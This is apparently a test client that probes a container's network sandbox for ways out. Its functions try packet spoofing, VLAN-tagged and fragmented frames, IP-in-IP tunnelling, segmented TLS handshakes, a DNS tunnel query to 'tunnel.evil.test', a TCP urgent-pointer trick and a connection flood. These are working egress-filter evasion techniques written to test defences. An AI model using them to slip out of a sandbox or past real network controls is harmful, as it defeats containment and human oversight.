"""What a program in a container tries; one line of JSON a try.

usage: egress_client.py 'EXPRESSION' …, of the functions below.
"""
import json
import socket
import ssl
import struct
import sys
import time

TIMEOUT = 4


def connect(host, port):
    return socket.create_connection((host, port), TIMEOUT)


def get(host, port=80, name=None, more=b""):
    with connect(host, port) as s:
        request = b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % (name or host).encode()
        s.sendall(request + more)
        return s.recv(1000).decode().split("\r\n\r\n")[1]


def several(host, *names, size=0, port=80):
    """Requests over one connection, each with a body; what is answered."""
    answers = []
    with connect(host, port) as s:
        for name in names:
            try:
                s.sendall(b"POST / HTTP/1.1\r\nHost: %s\r\n"
                          b"Content-Length: %d\r\n\r\n" %
                          (name.encode(), size) + b"x" * size)
                answers.append(s.recv(1000).decode().split("\r\n\r\n")[1])
            except OSError as error:
                answers.append(type(error).__name__)
                break
    return answers


def drip(host, port=80, name=None):
    """The same in segments of one byte."""
    with connect(host, port) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for byte in b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % \
                (name or host).encode():
            s.send(bytes([byte]))
        return s.recv(1000).decode().split("\r\n\r\n")[1]


def tls(host, name, port=443, size=0):
    """size: of the segments that the ClientHello comes in."""
    context = ssl._create_unverified_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    wrapped = context.wrap_bio(incoming, outgoing, server_hostname=name)
    with connect(host, port) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        while True:
            try:
                return wrapped.read(100).decode()
            except ssl.SSLWantReadError:
                pass
            data = outgoing.read()
            step = size or len(data) or 1
            for i in range(0, len(data), step):
                s.send(data[i:i + step])
            data = s.recv(65536)
            if not data:
                raise ConnectionError("closed")
            incoming.write(data)


def mail(host):
    with connect(host, 25) as s:
        hello = s.recv(100)
        s.sendall(b"EHLO me\r\n")
        return (hello + s.recv(100)).decode()


def udp(host, port, data="ping", family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(TIMEOUT)
        s.connect((host, port))
        s.send(data.encode())
        return s.recv(1000).decode("latin-1")


def ask(name, server):
    """Of any name server; how many addresses there are."""
    question = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"".join(
        bytes([len(part)]) + part.encode() for part in name.split(".")) + \
        b"\0\0\1\0\1"
    return udp(server, 53, question.decode("latin-1"))[7].encode()[0]


def reaches(host, port):
    connect(host, port).close()
    return True


def ask_raw(name, kind, server="10.0.2.3"):
    """The answer's code and number of records."""
    question = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"".join(
        bytes([len(part)]) + part.encode() for part in name.split(".")) + \
        b"\0" + struct.pack(">HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(TIMEOUT)
        s.connect((server, 53))
        s.send(question)
        answer = s.recv(4096)
    return [answer[3] & 15, struct.unpack(">H", answer[6:8])[0]]


def resolve(name):
    return sorted({a[4][0] for a in socket.getaddrinfo(name, 80)})


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def packet(destination, payload, protocol=17, fragment=0, source="10.0.2.100",
           options=b""):
    def head(total):
        return struct.pack(">BBHHHBBH4s4s", 0x45 + len(options) // 4, 0,
                           20 + len(options) + len(payload), 77, fragment, 64,
                           protocol, total, socket.inet_aton(source),
                           socket.inet_aton(destination)) + options
    return head(checksum(head(0))) + payload


def datagram(port, data):
    return struct.pack(">HHHH", 5555, port, 8 + len(data), 0) + data


def frames(destination):
    """Datagrams to a forbidden address, in all sorts of clothes."""
    payload = datagram(99, b"smuggled")
    plain = packet(destination, payload)
    device = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    device.bind(("eth0", 0))
    mac = b"\x52\x55\x0a\x00\x02\x02" + device.getsockname()[4]
    sent = 0
    for frame in (
            mac + b"\x08\x00" + plain,
            b"\xff" * 6 + mac[6:] + b"\x08\x00" + plain,
            mac + b"\x81\x00\x00\x05\x08\x00" + plain,
            mac + b"\x88\xa8\x00\x05\x81\x00\x00\x05\x08\x00" + plain,
            mac + b"\x08\x00" + packet(destination, payload,
                                       options=b"\x01" * 4),
            mac + b"\x08\x00" + packet(destination, payload[:8],
                                       fragment=0x2000),
            mac + b"\x08\x00" + packet(destination, payload[8:], fragment=1),
            mac + b"\x08\x00" + packet(destination, payload,
                                       source="10.0.2.55"),
            mac + b"\x08\x00" + packet(destination, payload,
                                       source="203.0.113.5"),
            mac + b"\x08\x06" + plain,
            mac + b"\x86\xdd" + plain,
            mac + b"\x08\x00" + packet(destination, packet(destination,
                                                           payload), 4)):
        device.send(frame)
        sent += 1
    time.sleep(0.5)
    return sent


def packet6(source, destination, port, data):
    ends = socket.inet_pton(socket.AF_INET6, source) + \
        socket.inet_pton(socket.AF_INET6, destination)
    head = struct.pack(">HHH", 5555, port, 8 + len(data))
    total = checksum(ends + struct.pack(">II", 8 + len(data), 17) + head +
                     b"\0\0" + data)
    return struct.pack(">IHBB", 6 << 28, 8 + len(data), 17, 64) + ends + \
        head + struct.pack(">H", total) + data


def wires(gateway, other, outside, outside6):
    """The same over the wire to a named network; questions to its name server,
    too, as if other had them."""
    payload = datagram(99, b"smuggled")
    question = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(
        bytes([len(label)]) + label for label in (b"tunnel", b"evil", b"test")
    ) + b"\0\0\1\0\1"
    device = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    device.bind(("eth1", 0))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"who has it?", (gateway, 9))
    time.sleep(0.2)
    with open("/proc/net/arp") as file:
        rows = [line.split() for line in file]
    theirs, = [bytes.fromhex(row[3].replace(":", "")) for row in rows
               if row[0] == gateway]
    mac = theirs + device.getsockname()[4]
    ours = socket.inet_ntoa(mac[8:])  # as is every container's
    route = b"\x83\x07\x04" + socket.inet_aton(outside) + b"\0"
    frames = [mac + b"\x08\x00" + packet(outside, payload, source=source)
              for source in (ours, other, gateway, outside, "10.0.2.100")]
    frames += [
        b"\xff" * 6 + mac[6:] + b"\x08\x00" + packet(outside, payload,
                                                    source=ours),
        mac + b"\x08\x00" + packet(gateway, payload, source=ours,
                                   options=route),
        mac + b"\x08\x00" + packet("10.0.2.2", payload, source=ours),
        mac + b"\x86\xdd" + packet6("fd09::2", outside6, 99, b"smuggled"),
        mac + b"\x86\xdd" + packet6("fd09::2", "fd09::1", 53, question),
        theirs + b"\x02\x42" + socket.inet_aton(other) + b"\x08\x00" +
        packet(outside, payload, source=other)]
    frames += [mac + b"\x08\x00" + packet(gateway, datagram(53, question),
                                          source=source)
               for source in (ours, other, gateway)]
    for frame in frames:
        device.send(frame)
    time.sleep(0.5)
    return len(frames)


def urgent(host, other, port=80):
    """Names the other's URL behind a byte of which an urgent pointer, sent
    ahead of it, says that it is none of the stream."""
    device = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                           socket.htons(0x0800))
    device.bind(("eth0", 0))
    device.settimeout(TIMEOUT)
    with connect(host, port) as s:
        ours = s.getsockname()
        frame = b""
        while frame[23:24] != b"\x06" or frame[47] != 0x12 or \
                frame[36:38] != struct.pack(">H", ours[1]):
            frame = device.recv(65536)
        seq, ack = struct.unpack(">II", frame[38:46])
        ends = frame[30:34] + frame[26:30]

        def segment(total):
            return struct.pack(">HHIIBBHHH", ours[1], port, ack, seq + 1,
                               5 << 4, 0x30, 64000, total, len("GET /"))
        pseudo = ends + struct.pack(">HH", 6, 20)
        device.send(frame[6:12] + frame[:6] + b"\x08\x00" + packet(
            socket.inet_ntoa(ends[4:]),
            segment(checksum(pseudo + segment(0))), 6,
            source=socket.inet_ntoa(ends[:4])))
        s.sendall(b"GET /http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" %
                  (other.encode(), host.encode()))
        return s.recv(1000).decode().split("\r\n\r\n")[1]


def flood(count):
    refused = 0
    for i in range(count):
        with socket.socket() as s:
            s.settimeout(TIMEOUT)
            try:
                s.connect((f"198.51.100.{i % 250 + 1}", 1 + i % 60000))
            except ConnectionRefusedError:
                refused += 1
    return refused


for text in sys.argv[1:]:
    begun = time.monotonic()
    try:
        result = eval(text)
    except OSError as error:
        result = type(error).__name__
    print(json.dumps([result, time.monotonic() - begun]), flush=True)
